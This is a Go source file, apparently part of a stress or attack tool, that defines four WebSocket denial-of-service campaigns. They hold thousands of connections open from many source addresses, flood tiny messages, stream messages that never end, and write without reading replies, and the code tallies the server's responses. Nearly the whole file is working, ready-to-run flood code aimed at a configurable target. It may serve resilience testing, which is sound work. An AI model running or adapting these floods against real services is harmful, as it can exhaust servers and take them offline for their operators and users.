package attack

import (
	"bytes"
	"context"
	"net"
	"net/http"
	"strconv"

	"github.com/coder/websocket"
)

var websockets = []Attack{
	{
		Name:  "ws-flood",
		About: "websockets that are opened and held, by many users from many networks",
		Usual: Budget{Conns: 1000, BytesPerSecond: 1_000_000, Identities: 100},
		begin: func(c *campaign) { c.onWebsocket(c.listenOnly) },
	},
	{
		Name:  "ws-messages",
		About: "small messages on websockets, as fast as they go",
		Usual: Budget{Conns: 50, BytesPerSecond: 2_000_000, Identities: 50},
		begin: func(c *campaign) { c.onWebsocket(c.chatter) },
	},
	{
		Name:  "ws-huge",
		About: "messages on websockets that do not end",
		Usual: Budget{Conns: 100, BytesPerSecond: 64_000_000, Identities: 100},
		begin: func(c *campaign) { c.onWebsocket(c.speakOn) },
	},
	{
		Name:  "ws-never-reads",
		About: "websockets that ask for answers and do not read them",
		Usual: Budget{Conns: 300, BytesPerSecond: 32_000_000, Identities: 100},
		begin: func(c *campaign) { c.onWebsocket(c.ignoreAnswers) },
	},
}

// onWebsocket calls do with a websocket of each worker, and again with a new one when it has returned.
func (c *campaign) onWebsocket(do func(ws *websocket.Conn)) {
	c.everyConn(func(worker int) {
		transport := &http.Transport{
			DisableKeepAlives: true,
			DialContext: func(context.Context, string, string) (net.Conn, error) {
				return c.dialNarrow(c.source(worker))
			},
			TLSClientConfig: c.target.TLS,
		}
		defer transport.CloseIdleConnections()
		scheme := "ws://"
		if c.target.TLS != nil {
			scheme = "wss://"
		}
		ws, resp, err := websocket.Dial(c.ctx, scheme+c.target.Addr+"/ws", &websocket.DialOptions{
			HTTPClient: &http.Client{Transport: transport},
			HTTPHeader: http.Header{"Authorization": {"Bearer new-" + strconv.Itoa(worker)}},
		})
		if resp != nil {
			c.tally.answer(resp.StatusCode)
		}
		if err != nil {
			return
		}
		defer ws.CloseNow()
		ws.SetReadLimit(-1)
		do(ws)
	})
}

func (c *campaign) listenOnly(ws *websocket.Conn) {
	c.tally.sent.Add(1)
	for {
		if _, _, err := ws.Read(c.ctx); err != nil {
			return
		}
	}
}

func (c *campaign) chatter(ws *websocket.Conn) {
	c.workers.Go(func() { c.listenOnly(ws) })
	text := bytes.Repeat([]byte("c"), 100)
	for ws.Write(c.ctx, websocket.MessageText, text) == nil {
		c.tally.sent.Add(1)
	}
}

func (c *campaign) speakOn(ws *websocket.Conn) {
	c.workers.Go(func() { c.listenOnly(ws) })
	c.tally.sent.Add(1)
	w, err := ws.Writer(c.ctx, websocket.MessageText)
	for piece := bytes.Repeat([]byte("o"), pieces); err == nil; {
		_, err = w.Write(piece)
	}
}

func (c *campaign) ignoreAnswers(ws *websocket.Conn) {
	// Below the usual limit of a message, 32 KiB.
	text := bytes.Repeat([]byte("i"), 16<<10)
	for ws.Write(c.ctx, websocket.MessageText, text) == nil {
		c.tally.sent.Add(1)
	}
}
